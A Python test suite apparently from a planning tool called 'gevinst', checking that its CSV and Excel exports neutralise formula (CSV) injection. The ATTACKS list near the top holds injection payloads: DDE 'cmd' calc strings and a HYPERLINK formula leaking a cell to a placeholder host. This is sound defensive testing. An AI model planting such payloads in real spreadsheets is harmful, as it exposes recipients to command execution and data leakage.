"""Text in CSV and spreadsheet cells never starts a formula; numbers stay numbers
(SPEC section 5, OWASP's advice on CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import gevinst as gv
from gevinst.analysis.stakeholders import to_csv
from gevinst.cli import cli
from gevinst.io.cells import FORMULA_START, csv_cell, csv_text
from gevinst.io.excel.write import workbook_bytes
from gevinst.report.tables import csv_text as evaluation_csv
from gevinst.report.tables import xlsx_bytes
from tests.conftest import BERGEN
from tests.strategies import TEXT

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?q="&A1;"Klikk")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "Navn;=1+2",  # Excel in Norway splits on ';'
]


def _hostile(plan: gv.Plan, texts: list[str]) -> gv.Plan:
    """The plan with its names, units and groups taken from ``texts`` in turn."""
    k = 0

    def take() -> str:
        nonlocal k
        k += 1
        return texts[(k - 1) % len(texts)]

    for element in plan.elements():
        element.name = take()
    for indicator in plan.indicators:
        indicator.name, indicator.unit = take(), take()
    for stakeholder in plan.stakeholders:
        stakeholder.name, stakeholder.group = take(), take()
    return plan


def _cells(text: str) -> list[list[Any]]:
    """The CSV read back; a cell written without quotes is read as a number (and must be
    one), a quoted cell as text."""
    return list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))


def _assert_inert(text: str) -> None:
    rows = _cells(text)
    assert rows
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not cell.startswith(FORMULA_START), repr(cell)
            else:
                assert isinstance(cell, float)
    # a spreadsheet that splits on ';' sees a text holding one inside its quotes, so
    # no piece after it becomes a cell of its own
    for at, char in enumerate(text):
        if char == ";" and text[at + 1 : at + 2] in FORMULA_START:
            assert text.count('"', 0, at) % 2 == 1, text  # inside a quoted cell


def test_csv_cell() -> None:
    assert [csv_cell(a) for a in ATTACKS[:4]] == ["'" + a for a in ATTACKS[:4]]
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1"
    assert csv_cell(-2.5) == -2.5 and csv_cell(-3) == -3 and csv_cell(0) == 0
    assert csv_cell(None) == "" and csv_cell("Mål") == "Mål"
    assert csv_cell(float("-inf")) == "'-inf"  # no spreadsheet number: text, and inert
    assert csv_cell(True) == "true"


def test_evaluation_csv_keeps_formulas_out(tmp_path: Path) -> None:
    plan = tmp_path / "plan.yaml"
    gv.save(_hostile(gv.load(BERGEN), ATTACKS), plan)
    out = tmp_path / "e.csv"
    result = CliRunner().invoke(cli, ["evaluate", str(plan), "--at", "2025-10-01", "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text("utf-8")
    _assert_inert(text)
    rows = _cells(text)
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert "'" + ATTACKS[0] in names and "'-2+3+cmd|' /C calc'!A0" in names
    numbers = [row[header.index("baseline")] for row in rows[1:] if row[1] == "indicator"]
    assert numbers and all(isinstance(n, float) for n in numbers)


def test_stakeholder_csv_keeps_formulas_out(tmp_path: Path) -> None:
    plan = tmp_path / "plan.yaml"
    gv.save(_hostile(gv.load(BERGEN), ATTACKS), plan)
    out = tmp_path / "s.csv"
    result = CliRunner().invoke(cli, ["stakeholders", str(plan), "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text("utf-8")
    _assert_inert(text)
    assert any(row[1] == "'" + ATTACKS[1] for row in _cells(text)[1:])


def test_negative_numbers_stay_numbers() -> None:
    text = csv_text(["a", "b"], [[-1.5, "-1.5"], [-2, "x"]])
    assert _cells(text)[1:] == [[-1.5, "'-1.5"], [-2.0, "x"]]
    assert text.splitlines()[1].startswith("-1.5,")  # unquoted: a spreadsheet's number


CELL = st.one_of(
    TEXT,
    st.sampled_from(ATTACKS),
    st.builds(lambda c, t: c + t, st.sampled_from(FORMULA_START), TEXT),
    st.floats(allow_nan=False, allow_infinity=False),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.none(),
)


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.lists(CELL, min_size=1, max_size=6), max_size=6))
def test_no_text_cell_of_any_csv_starts_a_formula(rows: list[list[Any]]) -> None:
    text = csv_text(["kolonne"], rows)
    back = _cells(text)
    assert len(back) == len(rows) + 1
    for row, read in zip(rows, back[1:], strict=True):
        for value, cell in zip(row, read, strict=True):
            if isinstance(value, int | float):
                assert cell == float(value)  # a number, and the same number
            else:  # the text as written, with a ' before it only where it would start one
                assert isinstance(cell, str) and not cell.startswith(FORMULA_START)
                assert cell == csv_cell(value)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(st.one_of(TEXT, st.sampled_from(ATTACKS)), min_size=1, max_size=12))
def test_every_csv_writer_is_inert_on_any_names(texts: list[str]) -> None:
    plan = _hostile(gv.load(BERGEN), texts)
    _assert_inert(to_csv(plan))
    _assert_inert(evaluation_csv(gv.evaluate(plan, at="2025-10-01")))


# -- Excel -----------------------------------------------------------------------------------


def _formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _quoted(data: bytes) -> dict[str, bool]:
    """Text cells that start like a formula -> whether Excel keeps them text when edited."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        f"{sheet.title}!{cell.coordinate}": bool(cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)
    }


@pytest.mark.parametrize("kind", ["plan", "evaluation"])
def test_excel_writers_keep_text_as_text(kind: str) -> None:
    plan = _hostile(gv.load(BERGEN), [a for a in ATTACKS if "\r" not in a])
    if kind == "plan":
        data = workbook_bytes(plan)
    else:
        data = xlsx_bytes(gv.evaluate(plan, at="2025-10-01"))
    assert _formula_cells(data) == []
    quoted = _quoted(data)
    assert quoted and all(quoted.values()), [k for k, v in quoted.items() if not v]


def test_plan_workbook_reads_back_unchanged(tmp_path: Path) -> None:
    plan = _hostile(gv.load(BERGEN), [a for a in ATTACKS if "\r" not in a])
    gv.save(plan, tmp_path / "plan.xlsx")
    assert gv.load(tmp_path / "plan.xlsx") == plan
